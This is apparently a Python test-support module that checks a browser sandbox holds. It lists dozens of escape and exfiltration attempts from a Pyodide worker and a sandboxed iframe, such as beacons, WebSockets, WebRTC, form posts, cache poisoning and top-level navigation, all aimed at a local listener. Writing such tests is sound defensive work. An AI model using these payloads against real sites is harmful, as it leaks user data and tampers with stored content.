"""Ways out of a sandbox: from Python in its worker, and from a script in its frame.

Those that lead to a stranger beyond `hostile.WAYS`, those to what the site keeps, and
those that only a frame has. {url} is the stranger's address, {udp} where it listens for
datagrams, {site} the site's.
"""

import json
import re
import socket
from pathlib import Path

from hostile import EVENTS, SCHEMES, VERBS, WAYS, WORKER, Stranger, altered_site
from website.manifest import integrity
from website.policy import SANDBOX, SANDBOX_SCRIPT

__all__ = [
    "FRAME_WAYS",
    "FROM_WORKER",
    "OUT",
    "TRY_WORKER",
    "Listener",
    "from_frame",
    "from_worker",
    "hostile_worker",
]

OUT = WAYS | {
    "a stream of sockets": "await js.WebSocketStream.new('{socket}').opened",
    "a transport": "await js.WebTransport.new('{url}').ready",
    "a beacon": "js.navigator.sendBeacon('{url}', 'secret')",
    "a fetch for later": "js.fetchLater('{url}', activateAfter=0)",
    "a script": "js.importScripts('{url}')",
    "a script written into its address": (
        "js.importScripts(\"data:text/javascript,fetch('{url}')\")"
    ),
    "a module written into its address": """
from pyodide.code import run_js
await run_js("import('data:text/javascript,fetch(`{url}`)')")
""",
    "a shared worker": "js.SharedWorker.new('{url}')",
    "a connection between browsers": "js.RTCPeerConnection.new()",
    "a fetch of a worker in a worker": WORKER.replace(
        "{text}",
        "\"const text = `fetch('{url}').finally(() => postMessage(0))`;"
        "const url = URL.createObjectURL(new Blob([text]));"
        'new Worker(url).onmessage = () => postMessage(0)"',
    ).replace("{options}", "type='classic'"),
    "a word to the frame": """
js.DedicatedWorkerGlobalScope.prototype.postMessage.call(js.self, to_js("{url}"))
""",
}
"""To a stranger."""

KEPT = {
    "a cache": (
        "await (await js.caches.open('poison')).put('{site}', js.Response.new('bad'))"
    ),
    "its caches": "assert [n for n in await js.caches.keys() if '{site}' in n]",
    "a database": "await settled(js.indexedDB.open('own', 1), 'success')",
    "files": "await js.navigator.storage.getDirectory()",
    "storage": "js.localStorage.setItem('theme', 'bad')",
    "cookies": "js.document.cookie = 'a=b'",
    "the service worker": "await js.navigator.serviceWorker.register('{site}sw.js')",
    "a file of the site": "assert (await js.fetch('{site}manifest.json')).ok",
    "a worker of the site": """
worker = js.Worker.new('{site}web/worker/python.worker.js')
assert await settled(worker, 'message', 'error') == 'message'
""",
    "the page": "js.parent.document.title = 'bad'",
    "its address": "js.top.location = '{site}bad'",
}
"""To what the site keeps, or shows. Each of them is to fail."""

FROM_WORKER = OUT | {f"kept: {name}": way for name, way in KEPT.items()}
"""All that Python may try."""

FRAME_WAYS = {
    "the page's address": "top.location = '{url}'",
    "the page's place": "top.location.replace('{url}')",
    "a link at the top": (
        "const a = add('a', { href: '{url}', target: '_top' }); a.click()"
    ),
    "its own address": "location.href = '{url}'",
    "an address that is a page": ("location.href = `data:text/html,<img src='{url}'>`"),
    "a blob that is a page": (
        "location.href = URL.createObjectURL("
        "new Blob([`<img src='{url}'>`], { type: 'text/html' }))"
    ),
    "a refresh": (
        "add('meta', { httpEquiv: 'refresh', content: '0;url={url}' }, document.head)"
    ),
    "a window": "if (!open('{url}')) throw Error('none')",
    "a form": "add('form', { action: '{url}', method: 'post' }).submit()",
    "a form elsewhere": (
        "add('form', { action: '{url}', method: 'post', target: '_blank' }).submit()"
    ),
    "a ping": "add('a', { href: '#x', ping: '{url}' }).click()",
    "a prefetch": "add('link', { rel: 'prefetch', href: '{url}' }, document.head)",
    "a preload": (
        "add('link', { rel: 'preload', as: 'image', href: '{url}' }, document.head)"
    ),
    "a connection beforehand": (
        "add('link', { rel: 'preconnect', href: '{url}' }, document.head)"
    ),
    "a module beforehand": (
        "add('link', { rel: 'modulepreload', href: '{url}' }, document.head)"
    ),
    "a picture": "add('img', { src: '{url}' })",
    "a style": ("add('style', { textContent: 'body { background: url({url}) }' })"),
    "a sheet": "add('link', { rel: 'stylesheet', href: '{url}' }, document.head)",
    "a script": "add('script', { src: '{url}' }, document.head)",
    "a frame": "add('iframe', { src: '{url}' })",
    "a frame with a page": "add('iframe', { srcdoc: `<img src='{url}'>` })",
    "an object": "add('object', { data: '{url}' })",
    "a film": "add('video', { src: '{url}' })",
    "a beacon": "if (!navigator.sendBeacon('{url}', 'x')) throw Error('no')",
    "fetch": "await fetch('{url}', { mode: 'no-cors' })",
    "a fetch for later": "fetchLater('{url}', { activateAfter: 0 })",
    "a socket": "new WebSocket('{url}'.replace('http', 'ws'))",
    "an alert": "if (alert('x') === undefined) throw Error('none was shown')",
    "a download": (
        "const href = URL.createObjectURL(new Blob(['x']));"
        " add('a', { href, download: 'x' }).click()"
    ),
    "rules of speculation": (
        "add('script', { type: 'speculationrules', textContent:"
        " JSON.stringify({ prefetch: [{ source: 'list', urls: ['{url}'] }] }) })"
    ),
    "the page": "parent.document.title = 'bad'",
    "storage": "localStorage.setItem('theme', 'bad')",
    "cookies": "document.cookie = 'a=b'; if (!document.cookie) throw Error('none')",
    "a shared worker": "new SharedWorker(URL.createObjectURL(new Blob([''])))",
    "caches": "await caches.open('poison')",
    "the service worker": "await navigator.serviceWorker.register('{site}sw.js')",
    "a broadcast": "new BroadcastChannel('page').postMessage('bad')",
    "history": "history.pushState(null, '', '{site}bad')",
    "WebRTC": (
        "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:{udp}' }] });"
        " c.createDataChannel('x'); await c.setLocalDescription(await c.createOffer())"
    ),
}
"""What a script in the frame itself would try: Python cannot get there."""

# Told by a verb: from there no channel leads to the page.
TELL = """
ENDED = {}
TASKS = []

async def attempt_here(ways):
    js.Reflect.deleteProperty(js.self, "fetch")
    js.Reflect.deleteProperty(js.self, "importScripts")
    async def one(name, text):
        ENDED[name] = await attempt(text)
    others = [one(*way) for way in ways if not way[0].startswith(BLOCKS)]
    await asyncio.gather(*others)
    for name, text in ways:
        if name not in ENDED:
            await one(name, text)
    ENDED["all"] = "ended"

def begin(message):
    TASKS.append(asyncio.ensure_future(attempt_here(message.fields["ways"])))
    return {}

VERBS["begin"] = begin
VERBS["ended"] = lambda message: dict(ENDED)
"""

ATTEMPTS = """
const add = (name, given, where = document.body) =>
  where.appendChild(Object.assign(document.createElement(name), given));
const WAYS = {
%s
};
addEventListener("message", async ({ data }) => {
  try { await WAYS[data](); parent.postMessage([data, "ended"], "*"); }
  catch (error) { parent.postMessage([data, String(error)], "*"); }
});
parent.postMessage(["ready", ""], "*");
"""

# Both begin; how each way ends is told by window.ended, what was heard by window.words.
TRY_WORKER = """
async (ways) => {
  const { openSandbox } = await import("./web/runtime/open-sandbox.js");
  window.words = [];
  const channel = new BroadcastChannel("page");
  channel.onmessage = ({ data }) => words.push(data);
  let tell;
  window.ended = new Promise((resolve) => { tell = resolve; });
  window.line = openSandbox(
    ({ progress, fault, answer, id }) => {
      if (fault) words.push(fault.message);
      if (progress?.phase === "ready") {
        line.post({ id: 1, message: JSON.stringify({ verb: "begin", ways }) });
        setInterval(() => line.post({ id: 2, message: '{"verb": "ended"}' }), 200);
      }
      const told = id === 2 && JSON.parse(answer).value;
      if (told.all) tell(told);
    },
    (failed) => words.push(failed),
  );
}
"""
# Each in a frame of its own.
TRY_FRAME = """
async (names) => {
  window.words = [];
  window.ended = { all: "ended" };
  new BroadcastChannel("page").onmessage = ({ data }) => words.push(data);
  const page = await (await fetch("web/runtime/sandbox.html")).text();
  const attempt = async (name) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.srcdoc = page;
    const heard = new Promise((resolve) => {
      addEventListener("message", ({ source, data: [said, end] }) => {
        if (source !== frame.contentWindow) return;
        if (said === "ready") frame.contentWindow.postMessage(name, "*");
        else resolve(end);
      });
      setTimeout(() => resolve("it said nothing"), 4000);
    });
    document.body.append(frame);
    ended[name] = await heard;
  };
  await Promise.all(names.map(attempt));
}
"""


class Listener(Stranger):
    """A stranger that hears ways by their numbers, and datagrams."""

    def __init__(self) -> None:
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0)
        super().__init__()

    def written(self, ways: dict[str, str], site: str, safe: bool) -> dict[str, str]:
        """Write ways to here, by TLS or not; the address names the way."""
        self.names = list(ways)
        scheme, socket_scheme = SCHEMES[safe]
        port = self.sockets[safe].getsockname()[1]
        datagrams = self.udp.getsockname()[1]
        told = {}
        for number, (name, text) in enumerate(ways.items()):
            address = f"127.0.0.1:{port}/way-{number}"
            text = text.replace("{url}", f"{scheme}://{address}")
            text = text.replace("{socket}", f"{socket_scheme}://{address}")
            text = text.replace("{site}", site)
            told[name] = text.replace("{udp}", f"127.0.0.1:{datagrams}")
        return told

    def got(self) -> set[str]:
        """Name the ways that were heard."""
        heard = {self.names[number] for number in self.numbers}
        try:
            self.udp.recv(4096)
        except BlockingIOError:
            return heard
        return heard | {"WebRTC"}


def bare(folder: Path) -> None:
    """Take the policies out of all pages of a site."""
    for page in folder.rglob("*.html"):
        text = page.read_text("utf-8")
        page.write_text(re.sub(r"<meta\s+http-equiv[^>]*>", "", text), "utf-8")


def hostile_worker(folder: Path, protected: bool) -> Path:
    """Make a site whose bridge runs any Python, and tells how it ended."""
    added = f"\n\nEVENTS = {EVENTS!r}\nBLOCKS = 'a request that blocks'\n{VERBS}{TELL}"
    altered_site(folder, {"pypuzzles/page/bridge.py": added})
    if not protected:
        bare(folder)
    return folder


def hostile_frame(folder: Path, ways: dict[str, str], protected: bool) -> Path:
    """Make a site whose frame tries ways, with the policy that names its script."""
    lines = [f"{json.dumps(n)}: async () => {{ {way} }}," for n, way in ways.items()]
    script = ATTEMPTS % "\n".join(lines)
    altered_site(folder, {})
    for page in (folder / "index.html", folder / SANDBOX):
        text = page.read_text("utf-8")
        text = text.replace(SANDBOX_SCRIPT, f"'{integrity(script.encode())}'")
        page.write_text(text, "utf-8")
    page = folder / SANDBOX
    text = page.read_text("utf-8")
    start, end = text.index("<script>"), text.index("</script>")
    page.write_text(f"{text[:start]}<body><script>{script}{text[end:]}", "utf-8")
    if not protected:
        bare(folder)
    return folder


def from_worker(tried, ways, protected):
    """Try ways of Python's, all in one boot."""
    return tried(
        ways,
        lambda folder, _: hostile_worker(folder, protected),
        TRY_WORKER,
        lambda written: list(written.items()),
    )


def from_frame(tried, protected):
    """Try all ways of a script's in the frame, each in one of its own."""
    return tried(
        FRAME_WAYS,
        lambda folder, written: hostile_frame(folder, written, protected),
        TRY_FRAME,
        list,
    )
